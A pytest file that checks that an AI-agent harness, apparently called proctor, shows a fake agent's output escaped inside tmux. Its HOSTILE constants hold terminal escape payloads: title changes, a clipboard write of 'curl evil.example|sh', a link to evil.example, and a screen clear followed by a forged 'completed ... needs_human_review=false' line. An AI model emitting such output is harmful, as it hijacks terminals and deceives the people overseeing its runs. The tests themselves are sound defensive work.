"""Under a real pty (tmux): an agent's output changes no title, no clipboard, no screen; a benign one is shown.

Each run is a `proctor run-agent` job with a fake agent, its stderr the tmux pane, its stdout a file. tmux
records what the pane's program did: `#{pane_title}` (OSC 0/2), paste buffers (OSC 52, `set-clipboard on`),
the screen (`capture-pane -p`, `-e` for attributes) and, through `pipe-pane`, every byte written to the pty.
The controls first show the harness sees a raw sequence when one is written.
"""

from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest

from proctor.testing import Behaviour

pytestmark = pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux not installed")

PROCTOR = str(Path(sys.executable).with_name("proctor"))
FAKE_DONE = "completed (OK) in 1.2s; worktree /tmp/repo-agents/x needs_human_review=false"
# Two lines: the progress line shows the last 100 characters of the agent's last line, so each is shown whole.
FIRST = ("\x1b]0;PWNED-TITLE\x07\x1b]2;PWNED-T2\x1b\\"
         "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"  # base64("curl evil.example|sh")
         "\x1b]8;;https://evil.example/\x07a\x1b]8;;\x07\n")
SECOND = "\u009d0;C1-TITLE\u009c\u202e\x1b[2J\x1b[H" + FAKE_DONE + "\n"
HOSTILE = FIRST + SECOND


class Tmux:
    def __init__(self, tmp: Path) -> None:
        self.sock = f"proctor-test-{uuid.uuid4().hex[:12]}"
        self.conf = tmp / "tmux.conf"
        self.conf.write_text("set -g set-clipboard on\n")

    def __call__(self, *args: str) -> str:
        return subprocess.run(["tmux", "-L", self.sock, "-f", str(self.conf), *args], check=True,
                              capture_output=True, text=True, timeout=20).stdout

    def kill(self) -> None:
        subprocess.run(["tmux", "-L", self.sock, "kill-server"], capture_output=True, timeout=20)


@pytest.fixture
def tmux(tmp_path):
    t = Tmux(tmp_path)
    yield t
    t.kill()


def _start(tmux: Tmux, tmp: Path, command: str, name: str) -> tuple[Path, Path]:
    """A session whose pane runs `command` once `go` exists; pipe-pane records the pty's bytes first."""
    go, raw, done = tmp / f"{name}.go", tmp / f"{name}.raw", tmp / f"{name}.done"
    script = tmp / f"{name}.sh"
    env = "".join(f"export {k}={shlex.quote(v)}\n" for k, v in os.environ.items()
                  if k in ("PATH", "PROCTOR_HOME", "HOME", "LANG", "LC_ALL") or k.startswith("GIT_"))
    script.write_text(f"{env}echo BEFORE-MARKER\nwhile [ ! -e {shlex.quote(str(go))} ]; do sleep 0.05; done\n"
                      f"{command}\necho $? > {shlex.quote(str(done))}\nsleep 60\n")
    tmux("new-session", "-d", "-x", "160", "-y", "40", "-s", name, f"sh {shlex.quote(str(script))}")
    tmux("pipe-pane", "-t", name, "-o", f"cat >> {shlex.quote(str(raw))}")
    time.sleep(0.3)
    go.write_text("")
    return raw, done


def _watch(tmux: Tmux, name: str, done: Path, timeout: float = 90) -> list[str]:
    screens, end = [], time.monotonic() + timeout
    while not done.exists():
        assert time.monotonic() < end, "the job never finished"
        screens.append(tmux("capture-pane", "-p", "-t", name))
        time.sleep(0.1)
    time.sleep(0.2)
    screens.append(tmux("capture-pane", "-p", "-t", name))
    return screens


def _run_agent(repo: Path, out: Path, validate: str = "true") -> str:
    # A slow validation keeps the agent's last line on screen a while, so a capture sees it even under load.
    return (f"{shlex.quote(PROCTOR)} run-agent --agent claude --task t --repo {shlex.quote(str(repo))} "
            f"--ticket T --validate-cmd {shlex.quote(validate)} > {shlex.quote(str(out))}")


def test_controls_the_harness_sees_a_raw_title_clipboard_and_clear(tmux, tmp_path):
    bytes_file = tmp_path / "hostile.bin"
    bytes_file.write_bytes(HOSTILE.encode())
    raw, done = _start(tmux, tmp_path, f"cat {shlex.quote(str(bytes_file))}; sleep 0.5", "ctl")
    screens = _watch(tmux, "ctl", done)
    assert tmux("display", "-p", "-t", "ctl", "#{pane_title}").strip() == "PWNED-T2"
    assert "curl evil.example|sh" in tmux("show-buffer")
    assert screens[-1].lstrip("\n").startswith(FAKE_DONE)  # cleared, then the fake line at the top
    assert "BEFORE-MARKER" not in screens[-1]
    assert b"\x1b]52;" in raw.read_bytes()


def test_agent_output_is_shown_escaped_and_drives_nothing(tmux, tmp_path, repo, fake):
    fake("claude", Behaviour(stdout=FIRST, writes={"a": "1"}, sleep=1.5, stdout_after_sleep=SECOND))
    out = tmp_path / "hostile.json"
    raw, done = _start(tmux, tmp_path, _run_agent(repo, out, "sleep 1.5"), "hostile")
    screens = _watch(tmux, "hostile", done)
    assert json.loads(out.read_text())["status"] == "completed"
    title = tmux("display", "-p", "-t", "hostile", "#{pane_title}")
    assert "PWNED" not in title and "C1-TITLE" not in title
    assert tmux("list-buffers") == ""  # OSC 52 wrote no clipboard, not once in all the redraws
    # The agent's line was on screen (escaped) while it ran; the screen was never cleared under it, and no
    # line ever began with the fake verdict.
    assert any("\\x1b]0;PWNED-TITLE\\x07" in s and "\\x1b]52;c;Y3Vy" in s and "\\x1b]8;;https" in s
               for s in screens)
    assert any("\\x9d0;C1-TITLE\\x9c\\u202e\\x1b[2J\\x1b[Hcompleted (OK)" in s for s in screens)
    for s in screens:
        assert "BEFORE-MARKER" in s
        assert not any(line.startswith(FAKE_DONE[:40]) for line in s.splitlines())
    styled = tmux("capture-pane", "-p", "-e", "-t", "hostile")
    assert "\x1b]8;" not in styled and "\x1b]" not in styled
    data = raw.read_bytes()
    assert data.count(b"\\x1b]52;c;") >= 1
    for seq in (b"\x1b]", b"\x07", b"\x1b[2J", b"\x1b[H", b"\xc2\x9d", b"\xc2\x9c", "\u202e".encode()):
        assert seq not in data, seq


def test_control_a_benign_progress_line_is_shown(tmux, tmp_path, repo, fake):
    fake("claude", Behaviour(stdout="thinking hard about it\n", writes={"a": "1"}, sleep=1.5))
    out = tmp_path / "benign.json"
    raw, done = _start(tmux, tmp_path, _run_agent(repo, out), "benign")
    screens = _watch(tmux, "benign", done)
    assert json.loads(out.read_text())["status"] == "completed"
    assert any("thinking hard about it" in s for s in screens)
    final = screens[-1]
    assert "BEFORE-MARKER" in final
    assert any(line.startswith("completed (OK) in ") and "worktree" in line for line in final.splitlines())
